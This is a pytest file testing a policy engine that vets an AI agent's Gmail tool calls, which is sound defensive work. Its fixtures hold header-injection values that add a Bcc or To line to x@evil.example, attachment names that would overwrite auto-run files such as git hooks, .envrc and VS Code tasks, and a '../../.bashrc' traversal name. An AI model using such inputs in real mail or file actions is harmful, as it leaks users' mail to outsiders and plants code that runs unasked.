"""The gmail pack against the real server's message building and platform semantics:
@gongrzhe/server-gmail-autoauth-mcp joins header lines with CRLF unescaped, so a line break
in ``subject``, ``inReplyTo``, ``cc`` or ``bcc`` adds a header (a ``Bcc:``: CWE-93) and is
denied; ``inReplyTo`` holds a Message-ID, no recipient; a label change that can hide a
message (trash, archive) is asked unless the request asks for one; an attachment saved
over an auto-run file is asked about."""

from __future__ import annotations

from typing import Any

import pytest

from cordon import Engine


def _tool(name: str, *params: str) -> dict[str, Any]:
    props = {p: {"type": "string"} for p in params}
    return {
        "name": name,
        "description": name,
        "inputSchema": {"type": "object", "properties": props},
    }


TOOLS = [
    _tool("send_email", "to", "cc", "bcc", "subject", "body", "inReplyTo", "threadId"),
    _tool("draft_email", "to", "cc", "bcc", "subject", "body", "inReplyTo"),
    _tool("modify_email", "messageId", "addLabelIds", "removeLabelIds"),
    _tool("download_attachment", "messageId", "attachmentId", "filename", "savePath"),
]


def _session(request: str, prefix: str = "/home/me/project") -> Any:
    engine = Engine.from_policy(
        [{"version": 1, "packs": ["gmail"], "allowed_path_prefixes": [prefix]}]
    )
    engine.pin_tools(TOOLS)
    return engine.new_session(trusted=[request])


REPLY = {"to": ["bob@example.com"], "subject": "Re: Q3", "body": "Thanks."}


@pytest.mark.parametrize("tool", ["send_email", "draft_email"])
@pytest.mark.parametrize(
    "extra",
    [
        {"subject": "Re: Q3\r\nBcc: x@evil.example"},
        {"subject": "Re: Q3\nBcc: x@evil.example"},
        {"inReplyTo": "<m1@example.com>\r\nBcc: x@evil.example"},
        {"cc": ["bob@example.com\r\nBcc: x@evil.example"]},
        {"bcc": ["bob@example.com\nTo: x@evil.example"]},
    ],
)
def test_a_line_break_in_a_header_value_is_denied(tool: str, extra: dict[str, Any]) -> None:
    d = _session("reply to bob@example.com").check(tool, {**REPLY, **extra})
    assert (d.verdict, d.rule) == ("deny", "arg.pattern"), d


def test_a_reply_to_the_named_colleague_with_its_message_id_is_allowed() -> None:
    args = {**REPLY, "inReplyTo": "<CAF1x@mail.example.com>", "threadId": "t1"}
    d = _session("Reply to Bob's mail (bob@example.com) about Q3").check("send_email", args)
    assert d.verdict == "allow", d


def test_a_label_change_is_asked_unless_the_request_asks_for_one() -> None:
    hide = {"messageId": "m2", "addLabelIds": ["TRASH"], "removeLabelIds": ["INBOX"]}
    d = _session("Read Bob's mail and reply to him").check("modify_email", hide)
    assert (d.verdict, d.rule) == ("ask", "action.not_requested"), d
    d = _session("Archive the newsletters from last week").check("modify_email", hide)
    assert d.verdict == "allow", d


@pytest.mark.parametrize(
    ("save", "name"),
    [("/home/me/project/.git/hooks", "pre-commit"), ("/home/me/project", ".envrc"),
     ("/home/me/project/.vscode", "tasks.json")],
)  # fmt: skip
def test_an_attachment_saved_over_an_auto_run_file_is_asked(save: str, name: str) -> None:
    args = {"messageId": "m1", "attachmentId": "a1", "savePath": save, "filename": name}
    d = _session("save the invoice attachment").check("download_attachment", args)
    assert (d.verdict, d.rule) == ("ask", "action.credential_write"), d


def test_an_attachment_saved_as_a_plain_file_is_allowed() -> None:
    args = {"messageId": "m1", "attachmentId": "a1", "savePath": "/home/me/project",
            "filename": "invoice.pdf"}  # fmt: skip
    d = _session("save the invoice attachment").check("download_attachment", args)
    assert d.verdict == "allow", d


@pytest.mark.parametrize(
    "left_out",
    [
        {"filename": None},
        {"savePath": None},
        {"filename": None, "savePath": None},
    ],
)
def test_an_attachment_whose_name_or_directory_the_server_picks_is_asked(
    left_out: dict[str, Any],
) -> None:
    """Without ``filename`` the server names the file after the sender's attachment name
    (``../../.bashrc`` walks out of ``savePath``); without ``savePath`` it writes in its own
    working directory (``ask_without``)."""
    args = {"messageId": "m1", "attachmentId": "a1", "savePath": "/home/me/project",
            "filename": "invoice.pdf", **left_out}  # fmt: skip
    args = {k: v for k, v in args.items() if v is not None}
    d = _session("save the invoice attachment").check("download_attachment", args)
    assert (d.verdict, d.rule) == ("ask", "action.destructive_hint"), d
    assert "is not given" in d.reason


def test_an_empty_filename_is_not_allowed() -> None:
    args = {"messageId": "m1", "attachmentId": "a1", "savePath": "/home/me/project", "filename": ""}
    assert (
        _session("save the invoice attachment").check("download_attachment", args).verdict
        != "allow"
    )
